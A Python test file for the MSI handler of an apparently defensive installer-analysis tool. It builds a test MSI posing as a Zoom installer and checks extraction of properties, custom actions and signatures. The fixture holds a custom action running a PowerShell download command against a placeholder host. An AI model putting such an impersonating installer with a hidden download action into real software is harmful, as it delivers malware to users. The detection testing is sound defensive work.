"""MSI handler: SummaryInformation, Property table, custom actions, signature, robustness."""

from __future__ import annotations

from pathlib import Path

import pytest

from agent.analysis.context import AnalysisContext
from agent.analysis.facts import SigStatus
from agent.analysis.formats import msi
from agent.analysis.sig.trust import TrustStore
from tests.corpus.msi_build import build_msi
from tests.corpus.pki import NOW, Pki, make_pki
from tests.corpus.sign import sign

CACHE = Path(__file__).resolve().parent / ".cache"
ZOOM = "Zoom Video Communications, Inc."


@pytest.fixture(scope="session")
def pki() -> Pki:
    return make_pki(CACHE / "pki")


@pytest.fixture(scope="session")
def ctx(pki: Pki) -> AnalysisContext:
    return AnalysisContext(trust=TrustStore.load(extra_roots=[pki.root]), vendors=None, now=NOW)  # type: ignore[arg-type]


@pytest.fixture(scope="session")
def zoom_msi() -> Path:
    return build_msi(
        CACHE,
        manufacturer=ZOOM,
        name="Zoom Workplace",
        version="6.1.0.0",
        description="Zoom Workplace installer",
        command="powershell.exe -nop -c iwr https://update.example.invalid/zoom",
    )


def test_claim_fields(zoom_msi: Path, ctx: AnalysisContext) -> None:
    result = msi.analyze(zoom_msi.read_bytes(), "ZoomInstaller.msi", ctx)
    assert result.type == "msi" and result.anomalies == []
    assert ("msi:Manufacturer", ZOOM) in result.claim_fields
    assert ("msi:ProductName", "Zoom Workplace") in result.claim_fields
    # wixl writes Manufacturer as the summary Author and the description as Subject.
    assert ("msi:summary:Author", ZOOM) in result.claim_fields
    assert ("msi:summary:Subject", "Zoom Workplace installer") in result.claim_fields


def test_properties_and_summary(zoom_msi: Path, ctx: AnalysisContext) -> None:
    facts = msi.analyze(zoom_msi.read_bytes(), "x.msi", ctx).facts
    props = facts["properties"]
    assert props["ProductVersion"] == "6.1.0.0"
    assert props["UpgradeCode"] == "{11111111-2222-3333-4444-555555555555}"
    assert props["ProductCode"].startswith("{") and len(props["ProductCode"]) == 38
    assert facts["summary"]["Comments"] == "built by the Lureguard test suite"


def test_custom_action_recorded(zoom_msi: Path, ctx: AnalysisContext) -> None:
    actions = msi.analyze(zoom_msi.read_bytes(), "x.msi", ctx).facts["custom_actions"]
    assert actions == [
        {
            "action": "RunCommand",
            "type": 2130,
            "kind": "exe-file",
            "source": "readme",
            "target": "powershell.exe -nop -c iwr https://update.example.invalid/zoom",
        }
    ]


def test_no_custom_actions_when_none(ctx: AnalysisContext) -> None:
    plain = build_msi(CACHE, manufacturer="Example Widgets LLC", name="Widgets")
    result = msi.analyze(plain.read_bytes(), "w.msi", ctx)
    assert "custom_actions" not in result.facts
    assert ("msi:Manufacturer", "Example Widgets LLC") in result.claim_fields


def test_signed_msi_through_handler(tmp_path: Path, zoom_msi: Path, pki: Pki, ctx: AnalysisContext) -> None:
    signed = sign(zoom_msi, tmp_path / "s.msi", pki.vendor)
    result = msi.analyze(signed.read_bytes(), "s.msi", ctx)
    assert result.signature is not None and result.signature.status is SigStatus.VALID
    assert ("msi:Manufacturer", ZOOM) in result.claim_fields  # the signature streams do not disturb tables
    default = AnalysisContext(trust=TrustStore.load(), vendors=None, now=NOW)  # type: ignore[arg-type]
    untrusted = msi.analyze(signed.read_bytes(), "s.msi", default).signature
    assert untrusted is not None and untrusted.status is SigStatus.UNTRUSTED_ROOT


@pytest.mark.parametrize(
    ("encoded", "decoded"),
    [
        ("\u4840\u4559\u44f2\u4568\u4737", "!Property"),  # a table ("!" + two chars per code unit)
        ("\u4840\u3f7f\u4164\u422f\u4836", "!_Tables"),  # odd length: the last unit holds one char
        ("\x05SummaryInformation", "\x05SummaryInformation"),  # plain names pass through
        ("\u4840\u3b3f\u43f2\u4438\u45b1", "!_Columns"),
    ],
)
def test_stream_name_decoding(encoded: str, decoded: str) -> None:
    assert msi.decode_stream_name(encoded) == decoded


@pytest.mark.parametrize(
    "mutate",
    [
        lambda d: d[:2048],  # truncated
        lambda d: d[:512] + b"\xff" * (len(d) - 512),  # everything after the header destroyed
        lambda d: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,  # magic only
    ],
)
def test_broken_msi_never_raises(zoom_msi: Path, ctx: AnalysisContext, mutate: object) -> None:
    assert callable(mutate)
    result = msi.analyze(mutate(zoom_msi.read_bytes()), "broken.msi", ctx)
    assert result.type == "msi" and result.anomalies
